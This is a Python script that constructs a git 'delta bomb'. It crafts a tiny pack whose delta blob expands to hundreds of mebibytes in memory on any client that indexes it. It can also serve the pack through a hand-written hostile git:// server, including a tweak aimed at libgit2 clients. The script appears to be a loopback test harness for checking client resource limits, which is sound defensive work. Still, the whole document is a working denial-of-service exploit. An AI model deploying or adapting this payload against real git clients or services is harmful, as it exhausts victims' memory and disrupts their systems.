#!/usr/bin/env python3
"""Writes a git repository whose one commit holds a 4-byte config file and, beside it, a
TARGET-MiB blob stored as a delta against a 16 MiB blob of zeros: a pack of a few tens of
kilobytes that a client must inflate to TARGET MiB in memory to index it (a "delta
bomb"). git's own index-pack resolves it here, once, on the attacker's side.

usage: delta_bomb.py BARE_REPO_DIR [TARGET_MIB]         writes it, prints the commit id
       delta_bomb.py serve BARE_REPO_DIR [TARGET_MIB]   also serves it over git:// on
           loopback, sending the crafted pack as it is (git daemon would re-pack the
           blob whole); prints the port, serves until killed

git's own servers re-pack what they send, so only a hostile server delivers the delta.
"""
import hashlib
import os
import socket
import struct
import subprocess
import sys
import threading
import zlib

BASE = 16 * 1024 * 1024 - 1  # the largest size one copy instruction can name


def object_header(kind, size):
    """A pack object's type and size varint."""
    byte = (kind << 4) | (size & 0x0F)
    size >>= 4
    out = bytearray()
    while size:
        out.append(byte | 0x80)
        byte = size & 0x7F
        size >>= 7
    out.append(byte)
    return bytes(out)


def varint(n):
    out = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def ofs(distance):
    """An OFS_DELTA's negative offset to its base."""
    out = [distance & 0x7F]
    distance >>= 7
    while distance:
        distance -= 1
        out.insert(0, 0x80 | (distance & 0x7F))
        distance >>= 7
    return bytes(out)


def blob_id(size):
    digest = hashlib.sha1(b"blob %d\0" % size)
    chunk = b"\0" * (1 << 20)
    left = size
    while left:
        piece = min(left, len(chunk))
        digest.update(chunk[:piece])
        left -= piece
    return digest.hexdigest()


def bomb_objects(target):
    """The base blob and the delta on it, as pack entries (the delta's offset assumes it
    follows the base directly)."""
    base = object_header(3, BASE) + zlib.compress(b"\0" * BASE, 9)
    delta = bytearray(varint(BASE) + varint(target))
    left = target
    while left:
        piece = min(left, BASE)
        # Copy from offset 0 (no offset bytes), size in three bytes.
        delta += bytes([0x80 | 0x10 | 0x20 | 0x40]) + struct.pack("<I", piece)[:3]
        left -= piece
    bomb = object_header(6, len(delta)) + ofs(len(base)) + zlib.compress(bytes(delta), 9)
    return base, bomb


def pack_of(entries):
    pack = b"PACK" + struct.pack(">II", 2, len(entries)) + b"".join(entries)
    return pack + hashlib.sha1(pack).digest()


def build(bare, target):
    base, bomb = bomb_objects(target)
    pack = pack_of([base, bomb])
    env = {**os.environ, "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b",
           "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@b"}

    def git(args, data=b""):
        return subprocess.run(["git", *args], cwd=bare, input=data, capture_output=True,
                              check=True, env=env).stdout.decode().strip()

    git(["index-pack", "--stdin", "--keep"], pack)
    small = git(["hash-object", "-w", "--stdin"], b"A=1\n")
    tree = git(["mktree"], f"100644 blob {small}\tapp.env\n100644 blob {blob_id(target)}\tbig.bin\n".encode())
    commit = git(["commit-tree", tree, "-m", "delta bomb"])
    git(["update-ref", "refs/heads/main", commit])
    # The whole commit as one pack, the delta kept: commit, tree, small blob, base, bomb.
    entries = []
    for kind, number, oid in (("commit", 1, commit), ("tree", 2, tree), ("blob", 3, small)):
        raw = subprocess.run(["git", "cat-file", kind, oid], cwd=bare, capture_output=True, check=True).stdout
        entries.append(object_header(number, len(raw)) + zlib.compress(raw))
    return commit, pack_of(entries + [base, bomb])


def pkt(text):
    data = text.encode() if isinstance(text, str) else text
    return b"%04x" % (len(data) + 4) + data


def read_pkt(conn):
    size = b""
    while len(size) < 4:
        got = conn.recv(4 - len(size))
        if not got:
            return None
        size += got
    length = int(size, 16)
    if length == 0:
        return b""
    data = b""
    while len(data) < length - 4:
        got = conn.recv(length - 4 - len(data))
        if not got:
            return None
        data += got
    return data


def serve_one(conn, commit, pack):
    with conn:
        conn.settimeout(60)
        if read_pkt(conn) is None:
            return
        conn.sendall(pkt(f"{commit} HEAD\0shallow ofs-delta no-progress symref=HEAD:refs/heads/main\n")
                     + pkt(f"{commit} refs/heads/main\n") + b"0000")
        deepen = False
        while True:  # wants, then a flush
            line = read_pkt(conn)
            if line is None:
                return
            if line == b"":
                break
            deepen = deepen or line.startswith(b"deepen")
        if deepen:
            # libgit2 reads a shallow line without its newline.
            conn.sendall(pkt(f"shallow {commit}") + b"0000")
        while True:  # haves, until done
            line = read_pkt(conn)
            if line is None:
                return
            if line.startswith(b"done"):
                break
        conn.sendall(pkt("NAK\n") + pack)


def main():
    serve = sys.argv[1] == "serve"
    args = sys.argv[2:] if serve else sys.argv[1:]
    bare = args[0]
    target = int(args[1]) * 1024 * 1024 if len(args) > 1 else 300 * 1024 * 1024
    commit, pack = build(bare, target)
    if not serve:
        print(commit)
        return
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    print(listener.getsockname()[1], flush=True)
    while True:
        conn, _ = listener.accept()
        threading.Thread(target=serve_one, args=(conn, commit, pack), daemon=True).start()


if __name__ == "__main__":
    main()
